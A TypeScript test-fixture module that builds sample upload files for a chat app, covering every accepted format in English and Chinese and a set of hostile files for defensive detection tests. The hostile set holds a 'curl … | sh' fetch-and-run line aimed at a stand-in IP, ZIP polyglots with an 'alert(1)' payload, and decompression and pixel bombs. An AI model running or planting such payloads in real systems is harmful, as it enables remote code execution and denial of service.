/**
 * Sample files for the chat's uploads: a real file of every accepted format in English and in Traditional
 * Chinese (sample-content.ts says what they contain), and the hostile files uploads must survive. Each sample
 * says what detection and reading must make of it (`sampleExpectations`), so API, browser and benchmark tests can
 * take them as they are. Built on demand and kept per process; `writeSampleFile` puts one on disk.
 *
 *   const { fileName, bytes } = await buildSampleFile('xlsx-zh')
 *   for await (const chunk of sizedTextFileChunks(chatFileMaxBytes + 1)) … // 50 MB + 1 byte, never all in memory
 */
import { mkdir, writeFile } from 'node:fs/promises'
import path from 'node:path'
import { Readable } from 'node:stream'
import iconv from 'iconv-lite'
import type { ChatFileErrorCode, ChatFileKind } from '#contracts/chat-file-rules.ts'
import {
  chineseSample,
  englishSample,
  type SampleDocument,
  sampleImageLines,
  sampleText,
  simplifiedSample,
} from './sample-content.ts'
import {
  cjkFontFile,
  damagedPng,
  encodeBmp,
  encodeGreyJpeg,
  pixelBombPng,
  renderTextLines,
} from './sample-images.ts'
import { buildDoc, buildEncryptedOoxml, buildPpt, buildXls } from './sample-legacy-office.ts'
import {
  buildDocx,
  buildDocxWithNestedZip,
  buildEntityDocx,
  buildNestedZip,
  buildPptx,
  buildRatioBombDocx,
  buildXlsx,
  wordDocumentXml,
  zipParts,
} from './sample-ooxml.ts'
import { buildCircularPdf, buildCjkPdf, buildEncryptedPdf, buildLatinPdf } from './sample-pdf.ts'

export interface SampleFile {
  fileName: string
  bytes: Uint8Array
}

type Outcome = { kind: ChatFileKind } | { error: ChatFileErrorCode }

export interface SampleExpectation {
  /** What `detectFileKind(first 64 KB, fileName)` decides. */
  detect: Outcome
  /**
   * What reading it as `kind` gives (the kind its name says, which is what a route would pass when detection is
   * bypassed): the text contains `words`, or the reading fails with `error`.
   */
  read: { kind: ChatFileKind } & ({ words: string[] } | { error: ChatFileErrorCode })
  /** The content it carries, for questions about it. */
  content?: SampleDocument
  /** Needs a CJK font on the machine to be built (images of Chinese text). */
  needsCjkFont?: boolean
}

const ok = (kind: ChatFileKind, content: SampleDocument, words = content.keyWords): SampleExpectation => ({
  detect: { kind },
  read: { kind, words },
  content,
})

const englishImageWords = ['Dividend', 'quarterly', 'NVDA']
const chineseImageWords = ['股利政策', '台積電']

export const sampleExpectations = {
  'txt-en': ok('txt', englishSample),
  'txt-zh': ok('txt', chineseSample),
  'txt-big5-zh': ok('txt', chineseSample),
  'txt-gb18030-zh': ok('txt', simplifiedSample),
  'pdf-en': ok('pdf', englishSample),
  'pdf-zh': ok('pdf', chineseSample),
  'docx-en': ok('docx', englishSample),
  'docx-zh': ok('docx', chineseSample),
  'xlsx-en': ok('xlsx', englishSample),
  'xlsx-zh': ok('xlsx', chineseSample),
  'pptx-en': ok('pptx', englishSample),
  'pptx-zh': ok('pptx', chineseSample),
  'doc-en': ok('doc', englishSample),
  'doc-zh': ok('doc', chineseSample),
  'xls-en': ok('xls', englishSample),
  'xls-zh': ok('xls', chineseSample),
  'ppt-en': ok('ppt', englishSample),
  'ppt-zh': ok('ppt', chineseSample),
  'png-en': ok('png', englishSample, englishImageWords),
  'png-zh': { ...ok('png', chineseSample, chineseImageWords), needsCjkFont: true },
  'jpg-en': ok('jpg', englishSample, englishImageWords),
  'jpg-zh': { ...ok('jpg', chineseSample, chineseImageWords), needsCjkFont: true },
  'bmp-en': ok('bmp', englishSample, englishImageWords),
  'bmp-zh': { ...ok('bmp', chineseSample, chineseImageWords), needsCjkFont: true },
  // Hostile and refused files.
  'empty-txt': { detect: { error: 'CHAT_FILE_EMPTY' }, read: { kind: 'txt', error: 'CHAT_FILE_UNREADABLE' } },
  'exe-renamed-pdf': {
    detect: { error: 'CHAT_FILE_TYPE_NOT_ALLOWED' },
    read: { kind: 'pdf', error: 'CHAT_FILE_TYPE_MISMATCH' },
  },
  'elf-renamed-txt': {
    detect: { error: 'CHAT_FILE_TYPE_NOT_ALLOWED' },
    read: { kind: 'txt', error: 'CHAT_FILE_TYPE_MISMATCH' },
  },
  'script-renamed-txt': {
    detect: { error: 'CHAT_FILE_TYPE_NOT_ALLOWED' },
    read: { kind: 'txt', error: 'CHAT_FILE_TYPE_MISMATCH' },
  },
  'polyglot-pdf-zip': { detect: { kind: 'pdf' }, read: { kind: 'pdf', error: 'CHAT_FILE_TYPE_MISMATCH' } },
  'polyglot-png-zip': { detect: { kind: 'png' }, read: { kind: 'png', error: 'CHAT_FILE_TYPE_MISMATCH' } },
  'png-named-jpg': {
    detect: { error: 'CHAT_FILE_TYPE_MISMATCH' },
    read: { kind: 'jpg', error: 'CHAT_FILE_TYPE_MISMATCH' },
  },
  'docx-named-xlsx': {
    detect: { error: 'CHAT_FILE_TYPE_MISMATCH' },
    read: { kind: 'xlsx', error: 'CHAT_FILE_TYPE_MISMATCH' },
  },
  'zip-nested-renamed-docx': {
    detect: { error: 'CHAT_FILE_TYPE_NOT_ALLOWED' },
    read: { kind: 'docx', error: 'CHAT_FILE_TYPE_MISMATCH' },
  },
  'docx-nested-zip': { detect: { kind: 'docx' }, read: { kind: 'docx', error: 'CHAT_FILE_UNREADABLE' } },
  'docx-ratio-bomb': { detect: { kind: 'docx' }, read: { kind: 'docx', error: 'CHAT_FILE_UNREADABLE' } },
  'docx-entities': { detect: { kind: 'docx' }, read: { kind: 'docx', error: 'CHAT_FILE_UNREADABLE' } },
  'docx-encrypted': {
    detect: { error: 'CHAT_FILE_ENCRYPTED' },
    read: { kind: 'docx', error: 'CHAT_FILE_ENCRYPTED' },
  },
  'doc-encrypted': { detect: { kind: 'doc' }, read: { kind: 'doc', error: 'CHAT_FILE_ENCRYPTED' } },
  'xls-encrypted': { detect: { kind: 'xls' }, read: { kind: 'xls', error: 'CHAT_FILE_ENCRYPTED' } },
  'ppt-encrypted': { detect: { kind: 'ppt' }, read: { kind: 'ppt', error: 'CHAT_FILE_ENCRYPTED' } },
  'pdf-encrypted': { detect: { kind: 'pdf' }, read: { kind: 'pdf', error: 'CHAT_FILE_ENCRYPTED' } },
  'pdf-circular': { detect: { kind: 'pdf' }, read: { kind: 'pdf', words: ['page tree contains itself'] } },
  'pdf-damaged': { detect: { kind: 'pdf' }, read: { kind: 'pdf', error: 'CHAT_FILE_UNREADABLE' } },
  'png-pixel-bomb': { detect: { kind: 'png' }, read: { kind: 'png', error: 'CHAT_FILE_UNREADABLE' } },
  'png-damaged': { detect: { kind: 'png' }, read: { kind: 'png', error: 'CHAT_FILE_UNREADABLE' } },
} satisfies Record<string, SampleExpectation>

export type SampleName = keyof typeof sampleExpectations
export const sampleNames = Object.keys(sampleExpectations) as SampleName[]

const fileNames: Record<SampleName, string> = {
  'txt-en': 'portfolio-notes.txt',
  'txt-zh': '投資組合筆記.txt',
  'txt-big5-zh': '投資組合筆記-big5.txt',
  'txt-gb18030-zh': '投资组合笔记-gb18030.txt',
  'pdf-en': 'portfolio-review.pdf',
  'pdf-zh': '投資組合檢討.pdf',
  'docx-en': 'portfolio-review.docx',
  'docx-zh': '投資組合檢討.docx',
  'xlsx-en': 'holdings.xlsx',
  'xlsx-zh': '持股明細.xlsx',
  'pptx-en': 'quarterly-review.pptx',
  'pptx-zh': '季度檢討.pptx',
  'doc-en': 'portfolio-review.doc',
  'doc-zh': '投資組合檢討.doc',
  'xls-en': 'holdings.xls',
  'xls-zh': '持股明細.xls',
  'ppt-en': 'quarterly-review.ppt',
  'ppt-zh': '季度檢討.ppt',
  'png-en': 'screenshot.png',
  'png-zh': '截圖.png',
  'jpg-en': 'photo.jpg',
  'jpg-zh': '照片.jpg',
  'bmp-en': 'scan.bmp',
  'bmp-zh': '掃描.bmp',
  'empty-txt': 'empty.txt',
  'exe-renamed-pdf': 'invoice.pdf',
  'elf-renamed-txt': 'readme.txt',
  'script-renamed-txt': 'install.txt',
  'polyglot-pdf-zip': 'statement.pdf',
  'polyglot-png-zip': 'chart.png',
  'png-named-jpg': 'chart.jpg',
  'docx-named-xlsx': 'holdings.xlsx',
  'zip-nested-renamed-docx': 'report.docx',
  'docx-nested-zip': 'report-with-attachment.docx',
  'docx-ratio-bomb': 'long-report.docx',
  'docx-entities': 'report-entities.docx',
  'docx-encrypted': 'protected.docx',
  'doc-encrypted': 'protected.doc',
  'xls-encrypted': 'protected.xls',
  'ppt-encrypted': 'protected.ppt',
  'pdf-encrypted': 'protected.pdf',
  'pdf-circular': 'looping.pdf',
  'pdf-damaged': 'damaged.pdf',
  'png-pixel-bomb': 'huge.png',
  'png-damaged': 'damaged.png',
}

/** The name sample `name` is uploaded under (without building it). */
export function sampleFileName(name: SampleName): string {
  return fileNames[name]
}

/** A minimal x86-64 Linux executable (ELF header and one program header; it would exit at once). */
function elfExecutable(): Uint8Array {
  const bytes = Buffer.alloc(136)
  bytes.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0], 0)
  bytes.writeUInt16LE(2, 16) // ET_EXEC
  bytes.writeUInt16LE(0x3e, 18) // x86-64
  bytes.writeUInt32LE(1, 20)
  bytes.writeBigUInt64LE(0x400078n, 24) // entry
  bytes.writeBigUInt64LE(64n, 32) // program headers
  bytes.writeUInt16LE(64, 52)
  bytes.writeUInt16LE(56, 54)
  bytes.writeUInt16LE(1, 56)
  bytes.set([0xb8, 0x3c, 0, 0, 0, 0x31, 0xff, 0x0f, 0x05], 120) // exit(0)
  return new Uint8Array(bytes)
}

/** A minimal Windows PE executable: the DOS header and stub, then the PE signature and file header. */
function peExecutable(): Uint8Array {
  const bytes = Buffer.alloc(512)
  bytes.write('MZ', 0, 'latin1')
  bytes.writeUInt32LE(0x80, 0x3c) // e_lfanew
  bytes.write('This program cannot be run in DOS mode.\r\r\n$', 0x4e, 'latin1')
  bytes.write('PE\0\0', 0x80, 'latin1')
  bytes.writeUInt16LE(0x8664, 0x84) // AMD64
  bytes.writeUInt16LE(1, 0x86)
  return new Uint8Array(bytes)
}

const concat = (...parts: Uint8Array[]) => new Uint8Array(Buffer.concat(parts))

function image(content: SampleDocument, format: 'png' | 'jpg' | 'bmp'): Uint8Array {
  const bitmap = renderTextLines(sampleImageLines(content), { cjk: content !== englishSample })
  if (format === 'png') return bitmap.png
  return format === 'jpg' ? encodeGreyJpeg(bitmap) : encodeBmp(bitmap)
}

async function build(name: SampleName): Promise<Uint8Array> {
  switch (name) {
    case 'txt-en':
      return new Uint8Array(Buffer.from(sampleText(englishSample), 'utf8'))
    case 'txt-zh':
      return new Uint8Array(Buffer.from(sampleText(chineseSample), 'utf8'))
    case 'txt-big5-zh':
      return new Uint8Array(iconv.encode(sampleText(chineseSample).replace(/\n/g, '\r\n'), 'big5'))
    case 'txt-gb18030-zh':
      return new Uint8Array(iconv.encode(sampleText(simplifiedSample), 'gb18030'))
    case 'pdf-en':
      return buildLatinPdf(englishSample)
    case 'pdf-zh':
      return buildCjkPdf(chineseSample)
    case 'docx-en':
      return buildDocx(englishSample)
    case 'docx-zh':
      return buildDocx(chineseSample)
    case 'xlsx-en':
      return buildXlsx(englishSample, ['Holdings', 'Notes'])
    case 'xlsx-zh':
      return buildXlsx(chineseSample, ['持股', '備註'])
    case 'pptx-en':
      return buildPptx(englishSample)
    case 'pptx-zh':
      return buildPptx(chineseSample)
    case 'doc-en':
      return buildDoc(englishSample)
    case 'doc-zh':
      return buildDoc(chineseSample)
    case 'xls-en':
      return buildXls(englishSample, ['Holdings', 'Notes'])
    case 'xls-zh':
      return buildXls(chineseSample, ['持股', '備註'])
    case 'ppt-en':
      return buildPpt(englishSample)
    case 'ppt-zh':
      return buildPpt(chineseSample)
    case 'png-en':
      return image(englishSample, 'png')
    case 'png-zh':
      return image(chineseSample, 'png')
    case 'jpg-en':
      return image(englishSample, 'jpg')
    case 'jpg-zh':
      return image(chineseSample, 'jpg')
    case 'bmp-en':
      return image(englishSample, 'bmp')
    case 'bmp-zh':
      return image(chineseSample, 'bmp')
    case 'empty-txt':
      return new Uint8Array(0)
    case 'exe-renamed-pdf':
      return peExecutable()
    case 'elf-renamed-txt':
      return elfExecutable()
    case 'script-renamed-txt':
      return new Uint8Array(Buffer.from('#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n', 'utf8'))
    case 'polyglot-pdf-zip':
      return concat(await buildLatinPdf(englishSample), await zipParts([['payload.js', 'alert(1)']]))
    case 'polyglot-png-zip':
      return concat(image(englishSample, 'png'), await zipParts([['payload.js', 'alert(1)']]))
    case 'png-named-jpg':
      return image(englishSample, 'png')
    case 'docx-named-xlsx':
      return buildDocx(englishSample)
    case 'zip-nested-renamed-docx':
      return buildNestedZip(3)
    case 'docx-nested-zip':
      return buildDocxWithNestedZip(englishSample)
    case 'docx-ratio-bomb':
      return buildRatioBombDocx(englishSample)
    case 'docx-entities':
      return buildEntityDocx(englishSample)
    case 'docx-encrypted':
      return buildEncryptedOoxml()
    case 'doc-encrypted':
      return buildDoc(englishSample, { encrypted: true })
    case 'xls-encrypted':
      return buildXls(englishSample, ['Holdings', 'Notes'], { encrypted: true })
    case 'ppt-encrypted':
      return buildPpt(englishSample, { encrypted: true })
    case 'pdf-encrypted':
      return buildEncryptedPdf()
    case 'pdf-circular':
      return buildCircularPdf()
    case 'pdf-damaged': {
      const whole = await buildLatinPdf(englishSample)
      // The header and the first object survive; the rest is noise and there is no cross-reference table.
      const noise = Buffer.alloc(4096)
      for (let i = 0; i < noise.length; i++) noise[i] = (i * 7919 + 17) & 0xff
      return concat(whole.subarray(0, 200), noise)
    }
    case 'png-pixel-bomb':
      return pixelBombPng()
    case 'png-damaged':
      return damagedPng()
  }
}

const built = new Map<SampleName, Promise<Uint8Array>>()

/** The sample's bytes and the name it is uploaded under (a copy: change it freely). */
export async function buildSampleFile(name: SampleName): Promise<SampleFile> {
  let bytes = built.get(name)
  if (!bytes) {
    bytes = build(name)
    built.set(name, bytes)
    bytes.catch(() => built.delete(name))
  }
  return { fileName: fileNames[name], bytes: new Uint8Array(await bytes) }
}

/** Writes the sample into `folder` under its file name; returns the path. */
export async function writeSampleFile(folder: string, name: SampleName): Promise<string> {
  const { fileName, bytes } = await buildSampleFile(name)
  await mkdir(folder, { recursive: true })
  const filePath = path.join(folder, fileName)
  await writeFile(filePath, bytes)
  return filePath
}

/** Whether the samples of Chinese text in images can be built here (a CJK font is installed). */
export function canBuildCjkImages(): boolean {
  return cjkFontFile() !== undefined
}

// ——— ten-page documents (the reading benchmark) ————————————————————————————————————————————————————

export const tenPageSampleKinds = ['pdf', 'docx', 'xlsx', 'pptx', 'txt', 'png'] as const
export type TenPageSampleKind = (typeof tenPageSampleKinds)[number]

export interface TenPageSample {
  kind: ChatFileKind
  extension: string
  label: string
  bytes: Uint8Array
}

function wrapWords(text: string, width: number): string[] {
  const lines: string[] = []
  let line = ''
  for (const word of text.split(' ')) {
    if (line && line.length + word.length + 1 > width) {
      lines.push(line)
      line = word
    } else line = line ? `${line} ${word}` : word
  }
  if (line) lines.push(line)
  return lines
}

/**
 * A document of about ten pages of the English sample: a 10-page PDF, a .docx with 10 pages, a workbook of 10
 * sheets, a deck of 10 slides, a text file of about ten pages (30 KB); and, for OCR, one screenshot of a page.
 */
export async function buildTenPageSample(kind: TenPageSampleKind): Promise<TenPageSample> {
  switch (kind) {
    case 'pdf':
      return { kind, extension: 'pdf', label: 'PDF, 10 pages', bytes: await buildLatinPdf(englishSample, 5) }
    case 'docx':
      return {
        kind,
        extension: 'docx',
        label: 'Word (.docx), 10 pages',
        bytes: await buildDocx(englishSample, wordDocumentXml(englishSample, 5)),
      }
    case 'xlsx':
      return {
        kind,
        extension: 'xlsx',
        label: 'Excel (.xlsx), 10 sheets',
        bytes: await buildXlsx(englishSample, ['Holdings', 'Notes'], 5),
      }
    case 'pptx':
      return {
        kind,
        extension: 'pptx',
        label: 'PowerPoint (.pptx), 10 slides',
        bytes: await buildPptx(englishSample, 5),
      }
    case 'txt': {
      const page = sampleText(englishSample)
      const text = Array.from({ length: Math.ceil(30_000 / page.length) }, () => page).join('\f\n')
      return {
        kind,
        extension: 'txt',
        label: 'Text, about 10 pages',
        bytes: new Uint8Array(Buffer.from(text, 'utf8')),
      }
    }
    case 'png': {
      const lines = [
        englishSample.title,
        '',
        ...englishSample.paragraphs.flatMap((paragraph) => [...wrapWords(paragraph, 46), '']),
      ]
      const table = englishSample.table.map((row) => row.filter(Boolean).join('  '))
      return {
        kind,
        extension: 'png',
        label: 'Screenshot (OCR), 1 page',
        bytes: renderTextLines([...lines, ...table], { cjk: false }).png,
      }
    }
  }
}

const textLine = 'Tickerwise upload size test: this line repeats to fill the file to the size asked.\n'

/**
 * A plain-text file of exactly `totalBytes` bytes, made as it is read, `chunkBytes` at a time (for the 50 MB + 1
 * byte test: nothing holds the whole file).
 */
export async function* sizedTextFileChunks(
  totalBytes: number,
  chunkBytes = 1024 * 1024,
): AsyncGenerator<Uint8Array> {
  const pattern = Buffer.from(textLine.repeat(Math.ceil(chunkBytes / textLine.length) + 1), 'latin1')
  let left = totalBytes
  let offset = 0
  while (left > 0) {
    const size = Math.min(chunkBytes, left)
    const start = offset % textLine.length
    yield new Uint8Array(pattern.subarray(start, start + size))
    offset += size
    left -= size
  }
}

/** The same as a Node stream (e.g. a multipart form part). */
export function sizedTextFileStream(totalBytes: number, chunkBytes?: number): Readable {
  return Readable.from(sizedTextFileChunks(totalBytes, chunkBytes), { objectMode: false })
}
